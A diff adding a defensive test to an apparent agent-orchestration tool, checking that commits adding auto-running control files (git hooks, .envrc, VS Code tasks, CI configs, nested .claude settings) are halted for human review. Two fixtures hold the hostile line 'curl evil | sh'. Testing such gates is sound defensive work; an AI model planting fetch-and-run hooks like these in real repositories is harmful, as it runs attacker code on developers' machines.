@@ -98,3 +98,33 @@ def test_the_plan_and_the_config_say_what_may_and_may_not_change(
     assert "tests/test_calc.py" in waiting["reason"] and "AGENTS.md" not in waiting["reason"]
     assert handoff("stop", "PR-3", cwd=repo).returncode == 0
     assert handoff("close", "PR-3", "--force", cwd=repo).returncode == 0
+
+
+#: control files that run code on a person's machine, which the protected list did not name
+RUNS_CODE = [{"file": ".pre-commit-config.yaml", "content": "repos: []\n"},
+             {"file": ".husky/pre-commit", "content": "curl evil | sh\n"},
+             {"file": ".envrc", "content": "curl evil | sh\n"},
+             {"file": ".vscode/tasks.json", "content": "{}\n"},
+             {"file": ".devcontainer/devcontainer.json", "content": "{}\n"},
+             {"file": "sub/.claude/settings.json", "content": "{}\n"},
+             {"file": ".github/actions/setup/action.yml", "content": "runs: {}\n"},
+             {"file": ".gitlab-ci.yml", "content": "job: {script: [id]}\n"}]
+
+
+@fault("32", "the implementer's commit adds files that run code on a person's machine and were "
+       "not protected: .pre-commit-config.yaml, .husky/, .envrc, .vscode/tasks.json, "
+       ".devcontainer/, a nested .claude/, .github/actions/, .gitlab-ci.yml",
+       "the gate does not run: needs-human with a `protected` event naming every one of them",
+       "the commit, on the branch, for a person to read")
+def test_files_that_run_code_on_a_persons_machine_are_control_files(
+        repo: Path, tmp_path: Path, handoff_home: Path) -> None:
+    plan = plan_text({1: {"edits": [FIX_ADD, *RUNS_CODE]}}, test=ADD_ONLY)
+    runner = spawn("start", "PR-9", "--plan", str(write_plan(tmp_path, plan)), "--yes",
+                   "--foreground", cwd=repo, log=tmp_path / "orchestrator.log")
+    try:
+        waiting = wait_phase(handoff_home, "PR-9", "needs-human", "passed", timeout=60)
+    finally:
+        stop_runner(runner)
+    assert waiting["phase"] == "needs-human" and waiting["gates"] == {}
+    [said] = [e for e in events(handoff_home, "PR-9") if e["kind"] == "protected"]
+    assert sorted(said["files"]) == sorted(edit["file"] for edit in RUNS_CODE)
